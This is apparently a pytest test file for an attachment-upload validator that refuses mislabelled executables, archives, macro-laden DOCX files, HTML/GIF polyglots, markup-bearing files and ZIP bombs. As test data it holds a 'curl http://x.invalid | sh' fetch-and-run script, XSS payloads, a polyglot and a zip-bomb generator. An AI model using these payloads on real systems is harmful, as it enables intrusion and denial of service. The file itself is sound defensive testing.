"""Finding 14: attachments were checked by their first bytes only.

`evil.exe` holding a JPEG header was stored and served as image/jpeg named evil.exe, any ZIP
named .docx was accepted, and a GIF/HTML polyglot passed. Now the name must match the
content, programs and archives are refused whatever they are called, ZIPs must really be
Word/Excel documents (checked with bounds against ZIP bombs), and markup in a file's head
is refused. Everything goes through the HTTP API, on SQLite and PostgreSQL.
"""

from __future__ import annotations

import base64
import io
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update

from tests.e2e.harness import API, PNG, Api, order_at_village
from tests.support import ONLY_SQLITE
from zhiyun.config import Settings
from zhiyun.orders import attachments
from zhiyun.store.tables import AttachmentRow

# What a file is does not depend on the database: the storage of files runs on both in tests/e2e.
pytestmark = ONLY_SQLITE

UPLOAD_LIMIT = 4 * 1024 * 1024

# the first bytes of a 1×1 JPEG as cameras write them (JFIF header), and its end marker
JPEG = (
    base64.b64decode(
        "/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////"
        "////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA="
    )
    + b"\xff\xd9"
)
PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)
# the start of a Windows program: the DOS header pointing (at 0x3C) to the PE header at 0x40
PE = b"MZ\x90\x00" + b"\x00" * 56 + (0x40).to_bytes(4, "little") + b"PE\x00\x00" + b"\x00" * 64
TEXT = "夏北路 3 号路灯不亮，晚上很黑。\n".encode()

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>现场情况说明</w:t></w:r></w:p></w:body></w:document>"
)
DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def zip_of(members: dict[str, bytes | str], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx(**extra: bytes | str) -> bytes:
    """A minimal Word document, as Word's own smallest file is made, plus `extra` members."""
    members: dict[str, bytes | str] = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": RELS,
        "word/document.xml": DOCUMENT,
    }
    members.update({name.replace("__", "/"): data for name, data in extra.items()})
    return zip_of(members)


def xlsx() -> bytes:
    """A real spreadsheet written by openpyxl."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["编号", "问题"])
    sheet.append([1, "路灯不亮"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    """A 4 MB limit: room for the ZIP bombs, which are small packed."""
    return Settings(attachment_dir=tmp_path / "attachments", attachment_max_bytes=UPLOAD_LIMIT)


@pytest.fixture
def order(api: Api) -> dict[str, Any]:
    return order_at_village(api)


@pytest.fixture
def xiabei(api: Api) -> TestClient:
    return api.as_("xiabei")


def upload(client: TestClient, order: dict[str, Any], name: str, content: bytes) -> Any:
    return client.post(
        f"{API}/orders/{order['id']}/attachments",
        files={"file": (name, content, "application/octet-stream")},
    )


def assert_refused(api: Api, client: TestClient, order: dict[str, Any], name: str, content: bytes) -> str:
    """Uploads the file, expects a 422 in the API's error shape and nothing stored; the message."""
    before = api.stored()
    response = upload(client, order, name, content)
    assert response.status_code == 422, (name, response.text)
    body = response.json()
    assert body["error"] == "validation_failed" and body["fields"] == {"file": body["message"]}
    assert api.stored() == before
    assert not [p for p in api.services.settings.attachment_dir.rglob("*") if p.is_file()]
    return str(body["message"])


# --------------------------------------------------------------------------- names


def test_a_jpeg_named_evil_exe_is_refused_because_the_extension_does_not_match(
    api: Api, order: dict[str, Any], xiabei: TestClient
) -> None:
    message = assert_refused(api, xiabei, order, "evil.exe", JPEG)
    assert message == "文件扩展名 .exe 与文件内容（JPEG 图片）不符：应为 .jpg、.jpeg、.jfif、.jpe"


def test_a_photo_with_a_second_extension_exe_is_refused(
    api: Api, order: dict[str, Any], xiabei: TestClient
) -> None:
    for name in ("photo.jpg.exe", "photo.jpg.EXE", "photo.jpg.exe.", "photo.png.scr"):
        assert ".exe" in assert_refused(api, xiabei, order, name, JPEG) or name.endswith(".scr")


def test_a_file_without_an_extension_is_stored_and_served_with_its_types_extension(
    api: Api, order: dict[str, Any], xiabei: TestClient
) -> None:
    stored = upload(xiabei, order, "现场照片", JPEG)
    odd = upload(xiabei, order, "现场.照片", PNG)

    assert stored.status_code == 201, stored.text
    assert stored.json()["filename"] == "现场照片.jpg"
    assert odd.status_code == 201 and odd.json()["filename"] == "现场.照片.png"
    served = xiabei.get(f"{API}/attachments/{stored.json()['id']}")
    assert served.headers["content-type"] == "image/jpeg"
    assert (
        "filename*=UTF-8''%E7%8E%B0%E5%9C%BA%E7%85%A7%E7%89%87.jpg" in served.headers["content-disposition"]
    )


def test_an_attachment_stored_before_the_check_is_served_with_the_right_extension(
    api: Api, order: dict[str, Any], xiabei: TestClient
) -> None:
    stored = upload(xiabei, order, "photo.jpg", JPEG).json()
    with api.services.db.transaction() as session:  # as F14 found it: a JPEG named evil.exe
        session.execute(
            update(AttachmentRow).where(AttachmentRow.id == stored["id"]).values(filename="evil.exe")
        )

    served = xiabei.get(f"{API}/attachments/{stored['id']}")

    assert served.status_code == 200
    assert served.headers["content-type"] == "image/jpeg"
    assert 'filename="evil.exe.jpg"' in served.headers["content-disposition"]


# --------------------------------------------------------------------------- programs and archives


@pytest.mark.parametrize(
    ("name", "content", "what"),
    [
        ("report.pdf", PE, "Windows 可执行程序"),
        ("photo.jpg", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200, "Linux 可执行程序"),
        ("notes.docx", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 200, "macOS 可执行程序"),
        ("readme.txt", b"#!/bin/sh\ncurl http://x.invalid | sh\n", "脚本"),
        ("setup", b"MZ" + b"\x00" * 200, "Windows 可执行程序"),
    ],
)
def test_an_mz_program_named_pdf_and_other_programs_are_refused_whatever_their_name(
    api: Api, order: dict[str, Any], xiabei: TestClient, name: str, content: bytes, what: str
) -> None:
    message = assert_refused(api, xiabei, order, name, content)
    assert message.startswith("不能上传可执行文件") and what in message


@pytest.mark.parametrize(
    ("name", "content", "what"),
    [
        ("scan.jpg", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 100, "RAR"),
        ("scan.pdf", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 100, "7z"),
        ("notes.txt", b"\x1f\x8b\x08\x00" + b"\x00" * 100, "gzip"),
        ("files.zip", zip_of({"a.txt": "hello"}), "ZIP"),
        ("photos.rar", b"Rar!\x1a\x07\x00" + b"\x00" * 100, "RAR"),
    ],
)
def test_archives_posing_as_documents_or_photos_are_refused(
    api: Api, order: dict[str, Any], xiabei: TestClient, name: str, content: bytes, what: str
) -> None:
    message = assert_refused(api, xiabei, order, name, content)
    assert message.startswith("不能上传压缩包") and what in message


# --------------------------------------------------------------------------- markup


def test_a_gif_html_polyglot_is_refused(api: Api, order: dict[str, Any], xiabei: TestClient) -> None:
    polyglot = b"GIF89a/*\x01\x00\x01\x00\x00\x00*/=1;<HTML><body><script>alert(document.domain)</script>"
    message = assert_refused(api, xiabei, order, "smile.gif", polyglot)
    assert message.startswith("文件开头含有网页或脚本标记（<html）")


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("photo.png", PNG[:16] + b"<svg/onload=alert(1)>"),
        ("scan.pdf", b"%PDF-1.4\n<!DOCTYPE html><p>x</p>"),
        ("note.txt", "情况说明 <script>alert(1)</script>".encode()),
        ("note.txt", "<\x00h\x00t\x00m\x00l\x00>\x00".encode("latin-1")),  # UTF-16 spelled
    ],
)
def test_markup_in_the_head_of_an_image_a_pdf_or_a_text_file_is_refused(
    api: Api, order: dict[str, Any], xiabei: TestClient, name: str, content: bytes
) -> None:
    assert "网页或脚本标记" in assert_refused(api, xiabei, order, name, content)


# --------------------------------------------------------------------------- Office documents


def test_a_zip_named_docx_is_refused(api: Api, order: dict[str, Any], xiabei: TestClient) -> None:
    plain = zip_of({"readme.txt": "not a document", "photo.jpg": JPEG})
    message = assert_refused(api, xiabei, order, "合同.docx", plain)
    assert message == "不能上传压缩包（ZIP）：它不是 Word 或 Excel 文档（缺少 [Content_Types].xml）"
    fake = zip_of({"[Content_Types].xml": "<Types/>", "payload.txt": "x"})
    assert "不是有效的 Word 或 Excel 文档" in assert_refused(api, xiabei, order, "合同.docx", fake)


def test_a_real_minimal_docx_and_an_xlsx_are_accepted_and_served_as_office_files(
    api: Api, order: dict[str, Any], xiabei: TestClient
) -> None:
    word = upload(xiabei, order, "情况说明.docx", docx())
    sheet = upload(xiabei, order, "台账.xlsx", xlsx())
    unnamed = upload(xiabei, order, "台账", xlsx())

    assert word.status_code == 201, word.text
    assert (word.json()["content_type"], word.json()["filename"]) == (DOCX_TYPE, "情况说明.docx")
    assert sheet.status_code == 201 and sheet.json()["content_type"] == XLSX_TYPE
    assert unnamed.status_code == 201 and unnamed.json()["filename"] == "台账.xlsx"
    served = xiabei.get(f"{API}/attachments/{word.json()['id']}")
    assert served.headers["content-type"] == DOCX_TYPE
    assert served.headers["content-disposition"].startswith("attachment;")
    assert served.headers["content-disposition"].endswith(".docx")


def test_a_word_document_named_xlsx_is_refused(api: Api, order: dict[str, Any], xiabei: TestClient) -> None:
    message = assert_refused(api, xiabei, order, "台账.xlsx", docx())
    assert message == "文件扩展名 .xlsx 与文件内容（Word 文档）不符：应为 .docx"


@pytest.mark.parametrize(
    ("extra", "reason"),
    [
        ({"word__media__setup.exe": b"MZ\x90\x00"}, "夹带可执行文件（word/media/setup.exe）"),
        ({"word__media__image1.png": PE}, "夹带可执行文件（word/media/image1.png）"),
        ({"word__media__image2.png": b"\x7fELF\x02\x01\x01\x00"}, "夹带可执行文件（word/media/image2.png）"),
        ({"word__run.vbs": "MsgBox 1"}, "夹带可执行文件"),
        ({"word__embeddings__more.zip": zip_of({"a.txt": "x"})}, "夹带压缩包"),
        ({"word__embeddings__data.xlsx": zip_of({"a.exe": b"MZ"})}, "夹带可执行文件（a.exe）"),
        ({"word__vbaProject.bin": b"\xd0\xcf\x11\xe0"}, "含宏"),
        (
            {
                "word__embeddings__oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
                + "Ole10Native".encode("utf-16-le")
            },
            "嵌入了文件包",
        ),
    ],
)
def test_a_docx_carrying_a_program_an_archive_or_macros_is_refused(
    api: Api, order: dict[str, Any], xiabei: TestClient, extra: dict[str, bytes | str], reason: str
) -> None:
    assert reason in assert_refused(api, xiabei, order, "情况说明.docx", docx(**extra))


def test_a_docx_with_a_chart_whose_data_is_an_embedded_workbook_is_accepted(
    api: Api, order: dict[str, Any], xiabei: TestClient
) -> None:
    with_chart = docx(**{"word__embeddings__Microsoft_Excel_Worksheet1.xlsx": xlsx()})
    response = upload(xiabei, order, "图表说明.docx", with_chart)
    assert response.status_code == 201, response.text


# --------------------------------------------------------------------------- ZIP bombs


def test_a_zip_bomb_is_refused_quickly(api: Api, order: dict[str, Any], xiabei: TestClient) -> None:
    # 50 MB of zeros packed into about 50 KB, as the document's body
    bomb = zip_of(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "_rels/.rels": RELS,
            "word/document.xml": b"\x00" * (50 * 1024 * 1024),
        }
    )
    assert len(bomb) < 100 * 1024
    started = time.perf_counter()

    message = assert_refused(api, xiabei, order, "炸弹.docx", bomb)

    assert time.perf_counter() - started < 2.0
    assert "压缩比异常（word/document.xml），可能是 ZIP 炸弹" in message


def test_a_zip_with_too_many_members_or_too_much_unpacked_is_refused(
    api: Api, order: dict[str, Any], xiabei: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    crowd = docx(**{f"word__media__p{i}.xml": "" for i in range(attachments.ZIP_MAX_MEMBERS)})
    started = time.perf_counter()
    assert "超过 2000 个，可能是 ZIP 炸弹" in assert_refused(api, xiabei, order, "多.docx", crowd)
    assert time.perf_counter() - started < 2.0

    monkeypatch.setattr(attachments, "ZIP_MAX_TOTAL", 64 * 1024)  # a small budget instead of 100 MB
    big = docx(word__media__big_xml=bytes(range(256)) * 400)  # 100 KB that does not pack 100 to 1
    assert "解压后超过" in assert_refused(api, xiabei, order, "大.docx", big)


# --------------------------------------------------------------------------- what still works


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("现场.jpg", JPEG, "image/jpeg"),
        ("现场.JPEG", JPEG, "image/jpeg"),
        ("现场.png", PNG, "image/png"),
        ("报告.pdf", PDF, "application/pdf"),
        ("说明.txt", TEXT, "text/plain; charset=utf-8"),
    ],
)
def test_a_normal_jpeg_png_pdf_and_text_file_are_still_accepted_and_served_under_their_name(
    api: Api, order: dict[str, Any], xiabei: TestClient, name: str, content: bytes, content_type: str
) -> None:
    response = upload(xiabei, order, name, content)

    assert response.status_code == 201, response.text
    assert response.json()["filename"] == name
    served = xiabei.get(f"{API}/attachments/{response.json()['id']}")
    assert served.status_code == 200 and served.content == content
    assert served.headers["content-type"] == content_type
    assert served.headers["x-content-type-options"] == "nosniff"
